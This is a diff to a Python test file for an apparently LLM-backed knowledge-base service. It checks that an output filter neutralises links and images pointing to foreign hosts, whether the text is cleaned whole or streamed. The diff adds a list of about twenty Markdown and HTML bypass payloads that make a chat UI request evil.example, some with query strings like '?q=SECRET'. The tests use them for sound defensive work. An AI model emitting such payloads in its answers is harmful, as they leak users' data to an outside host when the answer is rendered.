@@ -3,19 +3,21 @@ chunking), only cited passages as citations, and no links or images to foreign h
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from services.kb.answer import citations_for
 from services.kb.classification import Classification
 from services.kb.models import Chunk, Hit
 from services.llm.citations import markers, resolve
-from services.llm.output import HOLD_LIMIT, REMOVED, LinkFilter, LinkPolicy
+from services.llm.output import REMOVED, LinkFilter, LinkPolicy
 from services.llm.reasoning import Delta, ThinkSplitter, UnterminatedReasoning
 
 R1 = "<think>\nThe handbook says thirty.\n</think>\n\nEmployees get 30 days [1]."
 
 
-def _split(text: str, size: int, opened: bool = False) -> tuple[str, str]:
+def _split(text: str, size: int, opened: bool | None = False) -> tuple[str, str]:
     splitter = ThinkSplitter(opened=opened)
     out: list[Delta] = []
     for i in range(0, len(text), size):
@@ -80,13 +82,57 @@ DIRTY = (
     '<img src="https://evil.example/i.png"> ![ok](https://kb.example/i.png)\n'
     "[r]: https://evil.example/ref\n![a][r] done [2]. a < b! Wow!"
 )
+# each renders a request to evil.example in a Markdown/HTML chat UI unless made inert
+BYPASSES = [
+    "![a [b] c](//evil.example/q)",
+    "![a\nb](//evil.example/q)",
+    "![a\\]b](//evil.example/q)",
+    "![x](//evil.example/q (t))",
+    '![x](//evil.example/q "a\\"b")',
+    "![x](<//evil.example/a b>)",
+    "![[a](https://kb.example/)](//evil.example/q)",
+    "![a [b]](https&#58;//evil.example/q)",
+    "> [r]: //evil.example/q\n\n![r]",
+    "- [r]: //evil.example/q\n\n![r]",
+    "[r]:\n//evil.example/q\n\n![r]",
+    "<<img>img src=//evil.example/q>",
+    "!<https://x.example/>(//evil.example/q)",
+    "<video poster=//evil.example/q>",
+    "<picture><source srcset=//evil.example/q></picture>",
+    '<a href="javascript:fetch(1)">x</a>',
+    '<video poster="https://evil.example\\@kb.example/q?S">',
+    "[x](https://kb.example@evil.example/)",
+    "www.evil.example/?q=S",
+    "\\[" + "x" * 2100 + "](//evil.example/?q=SECRET)",
+    "![ok](HTTPS://EVIL.EXAMPLE/q)",
+]
 
 
-def test_links_and_images_to_foreign_hosts_are_removed() -> None:
+def _renders_a_foreign_url(text: str) -> bool:
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark", {"html": True}).render(text).lower()
+    # what a browser fetches or follows: an attribute of a tag that is really there
+    attributes = re.findall(r"<[a-z][^>]*?\b(?:src|href|poster|srcset|data)\s*=\s*[\"']?([^\"'\s>]*)", html)
+    return any("evil.example" in a or a.startswith("javascript:") for a in attributes)
+
+
+def test_links_and_images_to_foreign_hosts_are_made_inert() -> None:
+    assert sum(_renders_a_foreign_url(b) for b in BYPASSES) >= 15  # raw, they do reach the host
     clean = POLICY.clean(DIRTY)
-    assert "evil.example" not in clean and "secret" not in clean
+    assert not _renders_a_foreign_url(clean) and "secret" not in clean
     assert "[doc](https://kb.example/v1/d)" in clean and "![ok](https://kb.example/i.png)" in clean
-    assert "[1]" in clean and "[2]" in clean and "a < b! Wow!" in clean and REMOVED in clean
+    assert "[1]" in clean and "[2]" in clean and REMOVED in clean
+
+
+@pytest.mark.parametrize("attack", BYPASSES)
+def test_known_bypasses_stay_inert_whole_and_streamed(attack: str) -> None:
+    clean = POLICY.clean(attack)
+    assert not _renders_a_foreign_url(clean), clean
+    for size in (1, 2, 3, 7, 50):
+        f = LinkFilter(POLICY)
+        out = "".join(f.feed(attack[i : i + size]) for i in range(0, len(attack), size)) + f.finish()
+        assert out == clean
 
 
 @pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
@@ -101,12 +147,36 @@ def test_an_image_url_never_leaves_before_it_is_complete() -> None:
     sent = f.feed("Answer ![x](https://evil") + f.feed(".example/?q=secret")
     assert "evil" not in sent and "![" not in sent
     sent += f.feed(") done") + f.finish()
-    assert sent == "Answer x done"
+    assert sent == POLICY.clean("Answer ![x](https://evil.example/?q=secret) done")
+    assert not _renders_a_foreign_url(sent) and "secret" not in sent
 
 
-def test_an_overlong_unfinished_construct_is_escaped_not_held_forever() -> None:
+def test_citation_markers_and_plain_text_stream_without_delay() -> None:
     f = LinkFilter(POLICY)
-    sent = f.feed("![" + "a" * (HOLD_LIMIT + 10))
-    assert sent.startswith("!\\[")  # released, and can no longer render as an image
-    sent += f.feed("](https://evil.example/x)") + f.finish()
-    assert "evil.example" not in sent
+    assert f.feed("Thirty days [1] a year ") == "Thirty days [1] a year "  # nothing held back
+
+
+def test_cleaning_is_linear() -> None:
+    import time
+
+    started = time.perf_counter()
+    POLICY.clean("[" * 40000)
+    POLICY.clean("![a](" * 4000 + " " * 20000)
+    assert time.perf_counter() - started < 2
+
+
+def test_marker_edge_cases() -> None:
+    hits = _hits("One.", "Two.")
+    found = resolve("See [1, 99999], `arr[2]`, [\uff11] and ```x[2]```.", hits, citations_for(hits))
+    assert [c.n for c in found.citations] == [1] and found.unknown == [99999]
+
+
+@pytest.mark.parametrize("size", [1, 3, 1000])
+def test_unknown_template_holds_until_the_text_tells(size: int) -> None:
+    # the template may have opened <think> (only the close arrives) -- or the model does not think
+    assert _split("Weighing [2].</think>\n\nThirty [1].", size, opened=None) == (
+        "Weighing [2].",
+        "Thirty [1].",
+    )
+    assert _split("<think>x</think>y", size, opened=None) == ("x", "y")
+    assert _split("Just an answer [1].", size, opened=None) == ("", "Just an answer [1].")
